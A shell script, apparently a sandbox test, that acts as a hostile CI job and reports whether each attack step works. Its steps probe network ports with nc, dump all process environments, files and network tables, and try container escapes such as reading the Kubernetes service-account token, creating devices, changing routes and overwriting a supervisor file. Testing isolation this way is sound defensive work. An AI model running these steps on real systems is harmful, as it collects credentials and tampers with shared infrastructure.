# What a hostile author would put into a job: sh hostile.sh VERB …; plain POSIX shell with busybox's tools.

# probe NAME HOST PORT: whether a TCP connection can be opened
probe() {
    if timeout 6 nc -w 2 "$2" "$3" -e true 2>/dev/null; then echo "PROBE $1 open"; else echo "PROBE $1 closed"; fi
}

# attempt NAME COMMAND…: whether it works
attempt() {
    name=$1
    shift
    if ! command -v "$1" >/dev/null; then
        echo "ATTEMPT $name impossible"
    elif "$@" >/dev/null 2>&1; then
        echo "ATTEMPT $name worked"
    else
        echo "ATTEMPT $name failed"
    fi
}

# Everything that can be read: variables and arguments of all processes, mounts, devices, files.
view() {
    env
    for process in /proc/[0-9]*; do
        echo "process $process"
        tr '\0' '\n' <"$process/environ"
        tr '\0' ' ' <"$process/cmdline"
        echo
    done 2>/dev/null
    cat /proc/self/mountinfo /proc/self/status /proc/net/tcp /proc/net/arp
    ls -la /dev
    find / -path /proc -prune -o -path /sys -prune -o -type f -size -200k -print 2>/dev/null | while read -r file; do
        case "$file" in */view-of-*) continue ;; esac
        echo "file $file"
        tr -dc '\11\12\40-\176' <"$file"
        echo
    done
}

# What root in a container might do to its node.
break_out() {
    attempt mount mount -t tmpfs none /mnt
    attempt mount-proc mount -t proc none /mnt
    attempt device mknod /builds/disk b 8 0
    attempt user-namespace unshare -U true
    attempt namespace unshare -n true
    attempt chroot chroot / true
    attempt hostname hostname intruder
    attempt interface ip link add intruder type dummy
    attempt route ip route add 10.99.0.0/16 via 10.78.1.1
    attempt kernel-setting sh -c 'echo 1 >/proc/sys/kernel/panic'
    attempt kernel-log dmesg
    attempt kubelet-token cat /var/run/secrets/kubernetes.io/serviceaccount/token
    attempt containerd test -S /run/containerd/containerd.sock
    attempt tools sh -c 'echo forged >/driver/tools/supervisor'
}

"$@"
